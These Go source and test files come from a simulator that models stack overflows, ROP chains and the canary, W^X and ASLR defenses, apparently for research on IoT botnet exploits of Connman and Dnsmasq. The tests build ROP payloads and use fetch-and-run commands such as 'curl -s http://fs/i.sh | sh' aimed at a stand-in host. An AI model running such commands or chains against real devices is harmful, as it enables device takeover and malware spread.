// the `pop rdi; ret` style gadget.
type OpPop struct{ Reg int }

// OpLeaStack sets Reg to SP+Off, mirroring `lea rdi, [rsp+K]; ret`
// gadgets. This is how the exploit references the command string it
// smuggled onto the stack without knowing absolute stack addresses —
// the trick that keeps the chain working under stack ASLR.
type OpLeaStack struct {
	Reg int
	Off uint64
}

// OpMovImm loads an immediate into a register.
type OpMovImm struct {
	Reg int
	Val uint64
}

// OpSysExecShell performs the paper's
// execlp("sh", "sh", "-c", cmd, NULL) system call: it reads the
// NUL-terminated command at the address in RDI and hands it to the
// process's operating system. The process image is replaced, ending
// the chain.
type OpSysExecShell struct{}

// OpSysExit terminates the process with the status in RDI.
type OpSysExit struct{}

// OpCrash models a gadget whose side effects corrupt state and fault —
// what usually happens when a chain built for the wrong address layout
// lands in the middle of a real instruction.
type OpCrash struct{}

func (OpPop) op()          {}
func (OpLeaStack) op()     {}
func (OpMovImm) op()       {}
func (OpSysExecShell) op() {}
func (OpSysExit) op()      {}
func (OpCrash) op()        {}

// Gadget is a named op sequence located at a fixed offset inside a
// program's text segment.
type Gadget struct {
	Name string
	Ops  []Op
}

// Program describes an executable image: the synthetic stand-in for a
// stripped IoT binary. The attacker analyzes Programs offline (exactly
// the paper's assumption) to harvest gadget offsets.
type Program struct {
	// Name identifies the binary, e.g. "connman-1.34".
	Name string
	// Arch is the instruction-set tag (x86_64, arm7, mips) used by
	// Docker Buildx image selection.
	Arch string
	// PIE marks a position-independent executable. IoT daemons are
	// overwhelmingly built non-PIE, which is what keeps ROP viable
	// under ASLR.
	PIE bool
	// LinkBase is the text base address for non-PIE binaries.
	LinkBase uint64
	// TextSize is the extent of the text mapping.
	TextSize uint64
	// RetSite is the text offset of the benign return site of the
	// vulnerable function; the saved return address initially points
	// here.
	RetSite uint64
	// Gadgets maps text offsets to gadget definitions.
	Gadgets map[uint64]Gadget
	// SizeBytes is the on-disk size, used for container memory
	// accounting.
	SizeBytes int
}

// GadgetOffset finds the offset of the first gadget with the given
// name. The bool result reports whether it was found.
func (p *Program) GadgetOffset(name string) (uint64, bool) {
	var best uint64
	found := false
	for off, g := range p.Gadgets {
		if g.Name != name {
			continue
		}
		if !found || off < best {
			best = off
			found = true
		}
	}
	return best, found
}
