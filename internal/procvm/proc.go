package procvm

import (
	"encoding/binary"
	"math/rand"
)

// Protections is the per-device memory-defense configuration of
// §III-B: each Dev enables some subset of W^X and ASLR.
type Protections struct {
	// WX enforces Write XOR Execute: the stack is not executable.
	WX bool
	// ASLR randomizes the bases of position-independent mappings and
	// the stack.
	ASLR bool
	// Canary places a random stack cookie between the vulnerable
	// buffer and the saved return address (-fstack-protector). Any
	// overflow deep enough to reach the return address clobbers it,
	// and the return check aborts the process before the hijack.
	Canary bool
}

// OS is the interface through which hijacked code reaches the outside
// world. The container runtime implements it; tests use fakes.
type OS interface {
	// ExecShell replaces the process with `sh -c cmd`.
	ExecShell(cmd string)
	// Exit terminates the process with a status code.
	Exit(code int)
}

// Fixed layout constants. The stack sits high; non-PIE text low, as in
// a classic x86-64 Linux process.
const (
	defaultStackBase = 0x7ffd_0000_0000
	defaultStackSize = 1 << 20
	pieSlots         = 1 << 16 // number of distinct ASLR bases
	pieGranularity   = 1 << 12 // page-aligned bases
	pieFloor         = 0x5555_0000_0000
)

// shellcodeMagic marks simulated injected shellcode: when control
// transfers into an executable stack and these bytes follow, the
// "shellcode" runs the command after the marker. With W^X on, the same
// transfer faults with FaultNX instead.
var shellcodeMagic = []byte{0x90, 0x90, 0xcc, 0x53, 0x43} // nop nop int3 'S' 'C'

// HijackOutcome reports what a parse of attacker-controlled input did
// to the process.
type HijackOutcome struct {
	// Hijacked reports whether the saved return address was
	// overwritten at all.
	Hijacked bool
	// ExecutedShell is the command passed to OS.ExecShell when the
	// chain reached an exec syscall.
	ExecutedShell string
	// Fault is non-nil when the process crashed.
	Fault *Fault
}

// Crashed reports whether the process died.
func (o HijackOutcome) Crashed() bool { return o.Fault != nil }

// Proc is a simulated process: an address space, a register file, and
// the gadget machine. One Proc backs one daemon instance.
type Proc struct {
	prog *Program
	prot Protections
	os   OS

	as       *AddressSpace
	regs     [NumRegs]uint64
	textBase uint64
	stack    *Region
	sp       uint64
	canary   uint64

	alive bool
}

// NewProc maps a program into a fresh address space under the given
// protections. rng drives ASLR placement (it must come from the
// simulation scheduler for determinism).
func NewProc(prog *Program, prot Protections, rng *rand.Rand, os OS) *Proc {
	p := &Proc{prog: prog, prot: prot, os: os, as: &AddressSpace{}, alive: true}

	p.textBase = prog.LinkBase
	if prog.PIE && prot.ASLR {
		p.textBase = pieFloor + uint64(rng.Intn(pieSlots))*pieGranularity
	}
	p.as.Map("text:"+prog.Name, p.textBase, prog.TextSize, PermRead|PermExec)

	stackBase := uint64(defaultStackBase)
	if prot.ASLR {
		stackBase -= uint64(rng.Intn(pieSlots)) * pieGranularity
	}
	stackPerm := PermRead | PermWrite
	if !prot.WX {
		stackPerm |= PermExec
	}
	p.stack = p.as.Map("stack", stackBase, defaultStackSize, stackPerm)
	// Leave headroom above SP so an overflowing copy has somewhere to
	// land before running off the mapping.
	p.sp = stackBase + defaultStackSize/2

	if prot.Canary {
		// glibc-style: a random cookie whose low byte is NUL so that
		// string operations cannot leak or write past it.
		p.canary = (uint64(rng.Int63()) << 8) | 0
	}
	return p
}

// TextBase reports where the text segment actually landed — equal to
// the link base for non-PIE programs, randomized under PIE+ASLR.
func (p *Proc) TextBase() uint64 { return p.textBase }

// Program reports the loaded program.
func (p *Proc) Program() *Program { return p.prog }

// Protections reports the process's memory defenses.
func (p *Proc) Protections() Protections { return p.prot }

// Alive reports whether the process has not crashed or exited.
func (p *Proc) Alive() bool { return p.alive }

// Kill marks the process dead (used by Mirai's rival-killing and by
// the container runtime).
func (p *Proc) Kill() { p.alive = false }

// ParseUntrusted models the vulnerable parser shared by Connman's DNS
// response handling (CVE-2017-12865) and Dnsmasq's DHCPv6 RELAY-FORW
// handling (CVE-2017-14493): the caller pushes a frame with a
// fixed-size stack buffer and memcpys attacker bytes into it without a
// bounds check. If the copy stays inside the buffer the function
// returns normally; if it overwrote the return address, returning
// dispatches wherever the attacker pointed.
func (p *Proc) ParseUntrusted(data []byte, bufSize int) HijackOutcome {
	if !p.alive {
		return HijackOutcome{}
	}
	// Frame layout (descending stack, addresses ascending):
	//   [buf bufSize][canary 8?][saved RBP 8][return address 8][...]
	bufAddr := p.sp
	slot := bufAddr + uint64(bufSize)
	canaryAddr := uint64(0)
	if p.prot.Canary {
		canaryAddr = slot
		if f := p.as.WriteU64(canaryAddr, p.canary); f != nil {
			return p.crash(f)
		}
		slot += 8
	}
	savedRBPAddr := slot
	retAddr := savedRBPAddr + 8

	benignRet := p.textBase + p.prog.RetSite
	if f := p.as.WriteU64(retAddr, benignRet); f != nil {
		return p.crash(f)
	}

	// The unbounded copy.
	if f := p.as.Write(bufAddr, data); f != nil {
		// Payload so large it ran off the stack mapping: instant crash.
		return p.crash(f)
	}

	// Epilogue: the stack protector checks its cookie before ret.
	if p.prot.Canary {
		v, f := p.as.ReadU64(canaryAddr)
		if f != nil {
			return p.crash(f)
		}
		if v != p.canary {
			out := p.crash(&Fault{Kind: FaultCanary, Addr: canaryAddr})
			out.Hijacked = len(data) > bufSize // the smash was detected, not survived
			return out
		}
	}

	ret, f := p.as.ReadU64(retAddr)
	if f != nil {
		return p.crash(f)
	}
	if ret == benignRet {
		return HijackOutcome{} // in-bounds input; normal return
	}

	// Control-flow hijack: run the ROP machine with SP just past the
	// return slot, where the rest of the attacker's chain lives.
	p.sp = retAddr + 8
	out := p.runChain(ret)
	out.Hijacked = true
	return out
}

func (p *Proc) crash(f *Fault) HijackOutcome {
	p.alive = false
	return HijackOutcome{Fault: f}
}

// pop reads the next chain entry and advances SP.
func (p *Proc) pop() (uint64, *Fault) {
	v, f := p.as.ReadU64(p.sp)
	if f != nil {
		return 0, f
	}
	p.sp += 8
	return v, nil
}

const maxChainSteps = 256

// runChain is the ROP machine: repeatedly transfer control to the
// popped address and interpret the gadget found there.
func (p *Proc) runChain(ip uint64) HijackOutcome {
	for step := 0; step < maxChainSteps; step++ {
		reg := p.as.RegionAt(ip)
		if reg == nil {
			return p.crash(&Fault{Kind: FaultUnmapped, Addr: ip})
		}
		if reg.Perm&PermExec == 0 {
			// Return-to-stack (code injection) with W^X on, or a
			// return into data: NX stops it.
			return p.crash(&Fault{Kind: FaultNX, Addr: ip})
		}
		if reg == p.stack {
			// Executable stack (W^X off): interpret injected bytes.
			return p.runShellcode(ip)
		}
		gadget, ok := p.gadgetAt(ip)
		if !ok {
			return p.crash(&Fault{Kind: FaultBadInstruction, Addr: ip})
		}
		done, out := p.execGadget(gadget)
		if done {
			return out
		}
		next, f := p.pop()
		if f != nil {
			return p.crash(f)
		}
		ip = next
	}
	return p.crash(&Fault{Kind: FaultRunaway, Addr: ip})
}

func (p *Proc) gadgetAt(ip uint64) (Gadget, bool) {
	off := ip - p.textBase
	g, ok := p.prog.Gadgets[off]
	return g, ok
}

// execGadget interprets one gadget. done=true means the chain ended
// (syscall that never returns, or a fault).
func (p *Proc) execGadget(g Gadget) (done bool, out HijackOutcome) {
	for _, op := range g.Ops {
		switch o := op.(type) {
		case OpPop:
			v, f := p.pop()
			if f != nil {
				return true, p.crash(f)
			}
			p.regs[o.Reg] = v
		case OpLeaStack:
			p.regs[o.Reg] = p.sp + o.Off
		case OpMovImm:
			p.regs[o.Reg] = o.Val
		case OpSysExecShell:
			cmd, f := p.as.ReadCString(p.regs[RDI], 4096)
			if f != nil {
				return true, p.crash(f)
			}
			p.alive = false // execlp replaces the image
			if p.os != nil {
				p.os.ExecShell(cmd)
			}
			return true, HijackOutcome{ExecutedShell: cmd}
		case OpSysExit:
			p.alive = false
			if p.os != nil {
				p.os.Exit(int(p.regs[RDI]))
			}
			return true, HijackOutcome{}
		case OpCrash:
			return true, p.crash(&Fault{Kind: FaultBadInstruction, Addr: p.sp})
		default:
			return true, p.crash(&Fault{Kind: FaultBadInstruction, Addr: p.sp})
		}
	}
	return false, HijackOutcome{}
}

// runShellcode interprets injected stack bytes (only reachable when
// the stack is executable).
func (p *Proc) runShellcode(ip uint64) HijackOutcome {
	head, f := p.as.Read(ip, len(shellcodeMagic))
	if f != nil {
		return p.crash(f)
	}
	for i, b := range shellcodeMagic {
		if head[i] != b {
			return p.crash(&Fault{Kind: FaultBadInstruction, Addr: ip})
		}
	}
	cmd, f := p.as.ReadCString(ip+uint64(len(shellcodeMagic)), 4096)
	if f != nil {
		return p.crash(f)
	}
	p.alive = false
	if p.os != nil {
		p.os.ExecShell(cmd)
	}
	return HijackOutcome{ExecutedShell: cmd}
}

// EncodeShellcode renders the simulated injected-shellcode byte form
// of a command; exploit builders targeting W^X-off devices use it.
func EncodeShellcode(cmd string) []byte {
	out := make([]byte, 0, len(shellcodeMagic)+len(cmd)+1)
	out = append(out, shellcodeMagic...)
	out = append(out, cmd...)
	return append(out, 0)
}

// DefaultBufAddr reports where ParseUntrusted's stack buffer lands
// when ASLR is disabled — the knowledge a code-injection exploit
// against a no-ASLR device relies on.
func DefaultBufAddr() uint64 { return defaultStackBase + defaultStackSize/2 }

// U64 encodes v little-endian, the byte order chain entries use.
func U64(v uint64) []byte {
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], v)
	return b[:]
}
