// Package procvm simulates a process address space at the level of
// detail memory-error exploitation needs: mapped regions with
// read/write/execute permissions, ASLR base randomization, a call stack
// whose frames hold a fixed-size buffer, a saved frame pointer, and a
// return address, and a gadget interpreter that executes
// return-oriented-programming chains.
//
// This is the substitute for running real vulnerable Connman/Dnsmasq
// binaries inside Docker (§III of the paper): the daemons in
// internal/binaries parse attacker-controlled input through a procvm
// stack frame, so a crafted payload genuinely overwrites a simulated
// return address and hijacks control flow — or genuinely faults when
// W^X or ASLR defeats the attempt.
package procvm

import "fmt"

// FaultKind classifies a memory fault.
type FaultKind uint8

// Fault kinds.
const (
	// FaultUnmapped: access to an address in no mapped region.
	FaultUnmapped FaultKind = iota + 1
	// FaultPerm: access violating a region's permissions (e.g. write
	// to text).
	FaultPerm
	// FaultNX: control transfer into a region without execute
	// permission — what W^X turns a code-injection attempt into.
	FaultNX
	// FaultBadInstruction: control transfer to an executable address
	// holding no gadget (garbage ROP chain, e.g. built for the wrong
	// ASLR base).
	FaultBadInstruction
	// FaultRunaway: the ROP machine exceeded its step budget.
	FaultRunaway
	// FaultCanary: the stack protector detected a clobbered canary on
	// function return (__stack_chk_fail) and aborted the process.
	FaultCanary
)

// String implements fmt.Stringer.
func (k FaultKind) String() string {
	switch k {
	case FaultUnmapped:
		return "SIGSEGV (unmapped)"
	case FaultPerm:
		return "SIGSEGV (permission)"
	case FaultNX:
		return "SIGSEGV (NX violation)"
	case FaultBadInstruction:
		return "SIGILL (bad instruction)"
	case FaultRunaway:
		return "runaway chain"
	case FaultCanary:
		return "SIGABRT (stack smashing detected)"
	default:
		return fmt.Sprintf("fault(%d)", uint8(k))
	}
}

// Fault describes a crash of the simulated process. It implements
// error.
type Fault struct {
	Kind FaultKind
	Addr uint64
}

// Error implements the error interface.
func (f *Fault) Error() string {
	return fmt.Sprintf("procvm: %s at %#x", f.Kind, f.Addr)
}
