package procvm

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestCanaryBlocksROPChain(t *testing.T) {
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: true, Canary: true}, rand.New(rand.NewSource(1)), os)
	out := p.ParseUntrusted(ropPayload(p.TextBase(), "evil"), testBufSize)
	if out.ExecutedShell != "" || len(os.execed) != 0 {
		t.Fatalf("chain executed despite canary: %+v", out)
	}
	if out.Fault == nil || out.Fault.Kind != FaultCanary {
		t.Fatalf("fault = %v, want canary abort", out.Fault)
	}
	if !out.Hijacked {
		t.Fatal("smash attempt not flagged")
	}
	if p.Alive() {
		t.Fatal("process alive after __stack_chk_fail")
	}
}

func TestCanaryBlocksShellcodeInjection(t *testing.T) {
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{Canary: true}, rand.New(rand.NewSource(1)), os)
	var b bytes.Buffer
	sc := EncodeShellcode("evil")
	b.Write(sc)
	b.Write(bytes.Repeat([]byte{0x90}, testBufSize-len(sc)))
	b.Write(U64(0)) // clobbers the canary slot
	b.Write(U64(0))
	b.Write(U64(DefaultBufAddr()))
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if out.ExecutedShell != "" {
		t.Fatal("shellcode executed despite canary")
	}
	if out.Fault == nil || out.Fault.Kind != FaultCanary {
		t.Fatalf("fault = %v", out.Fault)
	}
}

func TestCanaryAllowsBenignInput(t *testing.T) {
	p := NewProc(testProgram(), Protections{WX: true, ASLR: true, Canary: true}, rand.New(rand.NewSource(1)), nil)
	for i := 0; i < 5; i++ {
		out := p.ParseUntrusted([]byte("a perfectly normal answer"), testBufSize)
		if out.Hijacked || out.Crashed() {
			t.Fatalf("benign parse %d: %+v", i, out)
		}
	}
	if !p.Alive() {
		t.Fatal("daemon died on benign traffic")
	}
}

func TestCanaryValuesDiffer(t *testing.T) {
	seen := make(map[uint64]bool)
	for seed := int64(0); seed < 8; seed++ {
		p := NewProc(testProgram(), Protections{Canary: true}, rand.New(rand.NewSource(seed)), nil)
		if p.canary == 0 {
			t.Fatal("zero canary")
		}
		if p.canary&0xff != 0 {
			t.Fatalf("canary %#x low byte not NUL", p.canary)
		}
		seen[p.canary] = true
	}
	if len(seen) < 4 {
		t.Fatalf("canaries barely vary: %d distinct of 8", len(seen))
	}
}

// Property: with the canary on, no payload longer than the buffer ever
// reaches gadget execution — it either aborts on the cookie check or
// faults outright.
func TestPropertyCanaryStopsAllOverflows(t *testing.T) {
	prog := testProgram()
	f := func(seed int64, payload []byte) bool {
		if len(payload) <= testBufSize {
			return true // in-bounds input is out of scope here
		}
		if len(payload) > 4096 {
			payload = payload[:4096]
		}
		os := &fakeOS{}
		p := NewProc(prog, Protections{Canary: true}, rand.New(rand.NewSource(seed)), os)
		out := p.ParseUntrusted(payload, testBufSize)
		return out.ExecutedShell == "" && len(os.execed) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
