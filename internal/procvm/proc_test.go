package procvm

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

// testProgram builds a small non-PIE image with the gadgets the
// standard exploit chain needs, plus a decoy.
func testProgram() *Program {
	return &Program{
		Name:     "testd-1.0",
		Arch:     "x86_64",
		PIE:      false,
		LinkBase: 0x400000,
		TextSize: 0x10000,
		RetSite:  0x1234,
		Gadgets: map[uint64]Gadget{
			0x2010: {Name: "lea_rdi_rsp8_ret", Ops: []Op{OpLeaStack{Reg: RDI, Off: 8}}},
			0x3020: {Name: "exec_shell", Ops: []Op{OpSysExecShell{}}},
			0x4030: {Name: "pop_rdi_ret", Ops: []Op{OpPop{Reg: RDI}}},
			0x5040: {Name: "exit", Ops: []Op{OpSysExit{}}},
			0x6050: {Name: "decoy_crash", Ops: []Op{OpCrash{}}},
		},
		SizeBytes: 850 * 1024,
	}
}

type fakeOS struct {
	execed []string
	exits  []int
}

func (f *fakeOS) ExecShell(cmd string) { f.execed = append(f.execed, cmd) }
func (f *fakeOS) Exit(code int)        { f.exits = append(f.exits, code) }

const testBufSize = 64

// ropPayload builds the canonical chain against the given text base:
// filler | saved rbp | &lea_rdi | &exec | cmd\0
func ropPayload(base uint64, cmd string) []byte {
	var b bytes.Buffer
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize)) // fill buffer
	b.Write(U64(0xdeadbeef))                        // saved RBP
	b.Write(U64(base + 0x2010))                     // lea rdi,[rsp+8]; ret
	b.Write(U64(base + 0x3020))                     // exec gadget
	b.WriteString(cmd)
	b.WriteByte(0)
	return b.Bytes()
}

func TestBenignInputReturnsNormally(t *testing.T) {
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(1)), os)
	out := p.ParseUntrusted([]byte("short dns answer"), testBufSize)
	if out.Hijacked || out.Crashed() {
		t.Fatalf("benign input hijacked=%v fault=%v", out.Hijacked, out.Fault)
	}
	if !p.Alive() {
		t.Fatal("process died on benign input")
	}
	// Parser is reusable for subsequent datagrams.
	out = p.ParseUntrusted(bytes.Repeat([]byte{'x'}, testBufSize), testBufSize)
	if out.Hijacked {
		t.Fatal("exactly-buffer-sized input must not reach the return slot")
	}
}

func TestROPChainExecutesShellNonPIE(t *testing.T) {
	// Non-PIE + full protections: the paper's headline case. W^X and
	// ASLR are both on, yet ROP into the fixed-base text succeeds.
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(1)), os)
	out := p.ParseUntrusted(ropPayload(p.TextBase(), "curl -s http://fs/i.sh | sh"), testBufSize)
	if !out.Hijacked {
		t.Fatal("overflow did not hijack")
	}
	if out.Crashed() {
		t.Fatalf("chain crashed: %v", out.Fault)
	}
	if out.ExecutedShell != "curl -s http://fs/i.sh | sh" {
		t.Fatalf("executed %q", out.ExecutedShell)
	}
	if len(os.execed) != 1 || os.execed[0] != out.ExecutedShell {
		t.Fatalf("OS saw %v", os.execed)
	}
	if p.Alive() {
		t.Fatal("execlp must replace the process image")
	}
}

func TestROPAgainstPIEWithASLRCrashes(t *testing.T) {
	// PIE binary with ASLR: the attacker's link-base chain points into
	// the void. The process must crash, not execute.
	prog := testProgram()
	prog.PIE = true
	os := &fakeOS{}
	crashes := 0
	for seed := int64(0); seed < 20; seed++ {
		p := NewProc(prog, Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(seed)), os)
		out := p.ParseUntrusted(ropPayload(prog.LinkBase, "x"), testBufSize)
		if out.ExecutedShell != "" {
			t.Fatalf("seed %d: chain built for link base executed under ASLR", seed)
		}
		if out.Crashed() {
			crashes++
		}
	}
	if crashes != 20 {
		t.Fatalf("only %d/20 ASLR runs crashed", crashes)
	}
	if len(os.execed) != 0 {
		t.Fatalf("OS executed %v", os.execed)
	}
}

func TestROPAgainstPIEWithoutASLRStillWorks(t *testing.T) {
	// PIE but ASLR disabled: loader uses the link base, chain works.
	prog := testProgram()
	prog.PIE = true
	os := &fakeOS{}
	p := NewProc(prog, Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(3)), os)
	out := p.ParseUntrusted(ropPayload(p.TextBase(), "id"), testBufSize)
	if out.ExecutedShell != "id" {
		t.Fatalf("outcome = %+v", out)
	}
}

func TestCodeInjectionBlockedByWX(t *testing.T) {
	// Return into injected stack shellcode with W^X on: FaultNX.
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(1)), os)
	var b bytes.Buffer
	sc := EncodeShellcode("evil")
	b.Write(sc)
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize-len(sc)))
	b.Write(U64(0))
	b.Write(U64(DefaultBufAddr())) // return to start of buffer
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if !out.Hijacked {
		t.Fatal("not hijacked")
	}
	if out.Fault == nil || out.Fault.Kind != FaultNX {
		t.Fatalf("fault = %v, want NX violation", out.Fault)
	}
	if out.ExecutedShell != "" || len(os.execed) != 0 {
		t.Fatal("shellcode executed despite W^X")
	}
}

func TestCodeInjectionSucceedsWithoutWX(t *testing.T) {
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: false, ASLR: false}, rand.New(rand.NewSource(1)), os)
	var b bytes.Buffer
	sc := EncodeShellcode("wget http://fs/bot")
	b.Write(sc)
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize-len(sc)))
	b.Write(U64(0))
	b.Write(U64(DefaultBufAddr()))
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if out.ExecutedShell != "wget http://fs/bot" {
		t.Fatalf("outcome = %+v", out)
	}
}

func TestGarbageOverflowCrashes(t *testing.T) {
	p := NewProc(testProgram(), Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(1)), nil)
	payload := bytes.Repeat([]byte{'A'}, 200) // classic AAAA... smash
	out := p.ParseUntrusted(payload, testBufSize)
	if !out.Hijacked {
		t.Fatal("smash not detected as hijack")
	}
	if !out.Crashed() {
		t.Fatal("0x4141... return address did not crash")
	}
	if p.Alive() {
		t.Fatal("process alive after crash")
	}
}

func TestHugePayloadFaults(t *testing.T) {
	p := NewProc(testProgram(), Protections{}, rand.New(rand.NewSource(1)), nil)
	out := p.ParseUntrusted(make([]byte, 2<<20), testBufSize) // bigger than the stack
	if !out.Crashed() || out.Fault.Kind != FaultUnmapped {
		t.Fatalf("fault = %v, want unmapped", out.Fault)
	}
}

func TestReturnToNonGadgetTextCrashes(t *testing.T) {
	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), nil)
	var b bytes.Buffer
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
	b.Write(U64(0))
	b.Write(U64(p.TextBase() + 0x9999)) // text, but no gadget there
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if out.Fault == nil || out.Fault.Kind != FaultBadInstruction {
		t.Fatalf("fault = %v, want bad instruction", out.Fault)
	}
}

func TestPopGadgetAndExit(t *testing.T) {
	os := &fakeOS{}
	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), os)
	var b bytes.Buffer
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
	b.Write(U64(0))
	b.Write(U64(p.TextBase() + 0x4030)) // pop rdi; ret
	b.Write(U64(42))                    // exit status
	b.Write(U64(p.TextBase() + 0x5040)) // exit
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if out.Crashed() {
		t.Fatalf("crashed: %v", out.Fault)
	}
	if len(os.exits) != 1 || os.exits[0] != 42 {
		t.Fatalf("exits = %v", os.exits)
	}
}

func TestRunawayChainBudget(t *testing.T) {
	// A chain of lea gadgets that never diverts: each ret pops the
	// next word, eventually running into the step budget or garbage.
	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), nil)
	var b bytes.Buffer
	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
	b.Write(U64(0))
	for i := 0; i < maxChainSteps+8; i++ {
		b.Write(U64(p.TextBase() + 0x2010))
	}
	out := p.ParseUntrusted(b.Bytes(), testBufSize)
	if !out.Crashed() {
		t.Fatal("runaway chain did not crash")
	}
	if out.Fault.Kind != FaultRunaway {
		t.Fatalf("fault = %v, want runaway", out.Fault)
	}
}

func TestASLRRandomizesPIEBase(t *testing.T) {
	prog := testProgram()
	prog.PIE = true
	seen := make(map[uint64]bool)
	for seed := int64(0); seed < 16; seed++ {
		p := NewProc(prog, Protections{ASLR: true}, rand.New(rand.NewSource(seed)), nil)
		seen[p.TextBase()] = true
	}
	if len(seen) < 8 {
		t.Fatalf("ASLR produced only %d distinct bases in 16 runs", len(seen))
	}
}

func TestNonPIEBaseFixedUnderASLR(t *testing.T) {
	prog := testProgram()
	for seed := int64(0); seed < 8; seed++ {
		p := NewProc(prog, Protections{ASLR: true}, rand.New(rand.NewSource(seed)), nil)
		if p.TextBase() != prog.LinkBase {
			t.Fatalf("non-PIE text moved to %#x", p.TextBase())
		}
	}
}

func TestDeadProcIgnoresInput(t *testing.T) {
	p := NewProc(testProgram(), Protections{}, rand.New(rand.NewSource(1)), nil)
	p.Kill()
	out := p.ParseUntrusted(ropPayload(p.TextBase(), "x"), testBufSize)
	if out.Hijacked || out.ExecutedShell != "" {
		t.Fatal("dead process parsed input")
	}
}

func TestMemoryPermissions(t *testing.T) {
	as := &AddressSpace{}
	text := as.Map("text", 0x1000, 0x1000, PermRead|PermExec)
	if f := as.Write(text.Base, []byte{1}); f == nil || f.Kind != FaultPerm {
		t.Fatalf("write to r-x region: fault = %v", f)
	}
	if _, f := as.Read(0x5000, 1); f == nil || f.Kind != FaultUnmapped {
		t.Fatalf("read unmapped: fault = %v", f)
	}
	data := as.Map("data", 0x3000, 0x100, PermRead|PermWrite)
	if f := as.Write(data.Base+0xf8, make([]byte, 16)); f == nil || f.Kind != FaultUnmapped {
		t.Fatalf("write across end of mapping: fault = %v", f)
	}
}

func TestMapOverlapPanics(t *testing.T) {
	as := &AddressSpace{}
	as.Map("a", 0x1000, 0x1000, PermRead)
	defer func() {
		if recover() == nil {
			t.Fatal("overlapping Map accepted")
		}
	}()
	as.Map("b", 0x1800, 0x1000, PermRead)
}

func TestReadWriteU64RoundTrip(t *testing.T) {
	as := &AddressSpace{}
	as.Map("d", 0, 64, PermRead|PermWrite)
	if f := as.WriteU64(8, 0x1122334455667788); f != nil {
		t.Fatal(f)
	}
	v, f := as.ReadU64(8)
	if f != nil || v != 0x1122334455667788 {
		t.Fatalf("v=%#x f=%v", v, f)
	}
}

func TestReadCString(t *testing.T) {
	as := &AddressSpace{}
	as.Map("d", 0, 64, PermRead|PermWrite)
	if f := as.Write(4, []byte("hello\x00world")); f != nil {
		t.Fatal(f)
	}
	s, f := as.ReadCString(4, 32)
	if f != nil || s != "hello" {
		t.Fatalf("s=%q f=%v", s, f)
	}
	// Unterminated within max: returns what it scanned.
	s, f = as.ReadCString(10, 5)
	if f != nil || s != "world" {
		t.Fatalf("s=%q f=%v", s, f)
	}
}

func TestPermString(t *testing.T) {
	if got := (PermRead | PermExec).String(); got != "r-x" {
		t.Fatalf("Perm.String = %q", got)
	}
	if got := Perm(0).String(); got != "---" {
		t.Fatalf("Perm.String = %q", got)
	}
}

func TestFaultError(t *testing.T) {
	f := &Fault{Kind: FaultNX, Addr: 0x1234}
	if f.Error() == "" {
		t.Fatal("empty fault message")
	}
	for k := FaultUnmapped; k <= FaultRunaway; k++ {
		if k.String() == "" {
			t.Fatalf("kind %d has empty String", k)
		}
	}
}

func TestProcAccessorsAndRegions(t *testing.T) {
	prog := testProgram()
	prot := Protections{WX: true, ASLR: true}
	p := NewProc(prog, prot, rand.New(rand.NewSource(1)), nil)
	if p.Program() != prog {
		t.Fatal("Program accessor")
	}
	if p.Protections() != prot {
		t.Fatal("Protections accessor")
	}
	regions := p.as.Regions()
	if len(regions) != 2 {
		t.Fatalf("regions = %d", len(regions))
	}
	names := map[string]Perm{}
	for _, r := range regions {
		names[r.Name] = r.Perm
	}
	if names["stack"]&PermExec != 0 {
		t.Fatal("W^X stack is executable")
	}
	if names["text:"+prog.Name]&PermExec == 0 {
		t.Fatal("text not executable")
	}
}

func TestGadgetOffset(t *testing.T) {
	prog := testProgram()
	off, ok := prog.GadgetOffset("exec_shell")
	if !ok || off != 0x3020 {
		t.Fatalf("off=%#x ok=%v", off, ok)
	}
	if _, ok := prog.GadgetOffset("missing"); ok {
		t.Fatal("found missing gadget")
	}
}

// Property: W^X invariant — no payload whatsoever can execute shell on
// a W^X + PIE + ASLR process when the chain is built for the link base.
func TestPropertyHardenedPIEResistsLinkBaseChains(t *testing.T) {
	prog := testProgram()
	prog.PIE = true
	f := func(seed int64, fill []byte, cmd string) bool {
		if len(cmd) > 64 {
			cmd = cmd[:64]
		}
		p := NewProc(prog, Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(seed)), nil)
		payload := append(append([]byte{}, fill...), ropPayload(prog.LinkBase, cmd)...)
		out := p.ParseUntrusted(payload, testBufSize)
		return out.ExecutedShell == ""
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: writes never land outside writable regions.
func TestPropertyWriteRespectsPermissions(t *testing.T) {
	f := func(off uint16, data []byte) bool {
		as := &AddressSpace{}
		as.Map("ro", 0x1000, 0x1000, PermRead)
		rw := as.Map("rw", 0x3000, 0x1000, PermRead|PermWrite)
		addr := 0x1000 + uint64(off)%0x3000
		fault := as.Write(addr, data)
